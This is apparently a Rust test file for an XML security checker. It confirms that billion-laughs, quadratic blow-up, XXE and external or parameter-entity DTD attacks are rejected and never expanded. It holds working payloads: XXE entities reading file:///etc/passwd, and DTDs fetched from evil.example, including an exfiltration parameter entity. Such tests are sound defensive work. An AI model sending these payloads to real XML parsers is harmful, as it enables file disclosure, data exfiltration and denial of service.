//! The classic XML entity attacks, under the default limits and under permissive DTD settings:
//! all are rejected (or passed through unexpanded when references are explicitly allowed), and
//! nothing is ever expanded or fetched.

use std::ops::ControlFlow;
use std::time::{Duration, Instant};

use portcullis_threat::xml::{XmlEvent, XmlLimits, XmlPath, check, scan};

fn billion_laughs() -> String {
    let mut dtd = String::from("<!ENTITY lol0 \"lol\">\n");
    for level in 1..10 {
        let refs = format!("&lol{};", level - 1).repeat(10);
        dtd.push_str(&format!("<!ENTITY lol{level} \"{refs}\">\n"));
    }
    format!("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n{dtd}]>\n<lolz>&lol9;</lolz>")
}

fn quadratic_blowup(entity_len: usize, refs: usize) -> String {
    format!(
        "<?xml version=\"1.0\"?><!DOCTYPE kaboom [<!ENTITY a \"{}\">]><kaboom>{}</kaboom>",
        "a".repeat(entity_len),
        "&a;".repeat(refs)
    )
}

const XXE: &str = "<?xml version=\"1.0\"?>\n<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n<foo>&xxe;</foo>";
const XXE_IN_ATTRIBUTE: &str =
    "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo bar=\"&xxe;\"/>";
const EXTERNAL_DTD: &str =
    "<?xml version=\"1.0\"?>\n<!DOCTYPE foo SYSTEM \"http://evil.example/evil.dtd\">\n<foo/>";
const PUBLIC_DTD: &str =
    "<!DOCTYPE foo PUBLIC \"-//EVIL//DTD\" \"http://evil.example/e.dtd\"><foo/>";
const PARAMETER_ENTITY_EXTERNAL: &str =
    "<!DOCTYPE foo [<!ENTITY % xxe SYSTEM \"http://evil.example/x.dtd\"> %xxe;]><foo>&exfil;</foo>";
const PARAMETER_ENTITY_INTERNAL: &str =
    "<!DOCTYPE foo [<!ENTITY % p \"<!ENTITY e 'boom'>\"> %p;]><foo>&e;</foo>";

fn attacks() -> Vec<(&'static str, String)> {
    vec![
        ("billion laughs", billion_laughs()),
        ("quadratic blow-up", quadratic_blowup(10_000, 1_000)),
        ("XXE", XXE.to_owned()),
        ("XXE in attribute", XXE_IN_ATTRIBUTE.to_owned()),
        ("external DTD", EXTERNAL_DTD.to_owned()),
        ("public DTD", PUBLIC_DTD.to_owned()),
        (
            "external parameter entity",
            PARAMETER_ENTITY_EXTERNAL.to_owned(),
        ),
        (
            "internal parameter entity",
            PARAMETER_ENTITY_INTERNAL.to_owned(),
        ),
    ]
}

fn timed_code(body: &str, limits: &XmlLimits) -> &'static str {
    let started = Instant::now();
    let code = match check(body.as_bytes(), limits) {
        Ok(stats) => panic!("attack accepted: {stats:?}"),
        Err(v) => v.code,
    };
    assert!(
        started.elapsed() < Duration::from_secs(1),
        "took {:?}",
        started.elapsed()
    );
    code
}

#[test]
fn default_limits_forbid_every_doctype() {
    for (name, body) in attacks() {
        assert_eq!(
            timed_code(&body, &XmlLimits::default()),
            "xml.doctype_forbidden",
            "{name}"
        );
    }
}

#[test]
fn allowed_doctype_still_refuses_references_and_external_resources() {
    let limits = XmlLimits {
        allow_doctype: true,
        ..XmlLimits::default()
    };
    let expected = [
        ("billion laughs", "xml.entity_reference_forbidden"),
        ("quadratic blow-up", "xml.entity_reference_forbidden"),
        ("XXE", "xml.doctype_forbidden"),
        ("XXE in attribute", "xml.doctype_forbidden"),
        ("external DTD", "xml.doctype_forbidden"),
        ("public DTD", "xml.doctype_forbidden"),
        ("external parameter entity", "xml.doctype_forbidden"),
        (
            "internal parameter entity",
            "xml.entity_reference_forbidden",
        ),
    ];
    for ((name, body), (expected_name, code)) in attacks().iter().zip(expected) {
        assert_eq!(*name, expected_name);
        assert_eq!(timed_code(body, &limits), code, "{name}");
    }
}

#[test]
fn allowed_references_are_never_expanded() {
    let limits = XmlLimits {
        allow_doctype: true,
        allow_entity_references: true,
        ..XmlLimits::unlimited()
    };
    for body in [
        billion_laughs(),
        quadratic_blowup(10_000, 1_000),
        PARAMETER_ENTITY_INTERNAL.to_owned(),
    ] {
        let mut visited_chars = 0;
        scan(
            body.as_bytes(),
            &limits,
            &mut |_: &XmlPath<'_>, e: XmlEvent<'_>| {
                if let XmlEvent::Text(t) = e {
                    visited_chars += t.len();
                }
                ControlFlow::Continue(())
            },
        )
        .unwrap();
        // What the visitor sees is at most what was written: references stay references.
        assert!(
            visited_chars < body.len(),
            "{visited_chars} >= {}",
            body.len()
        );
    }
}
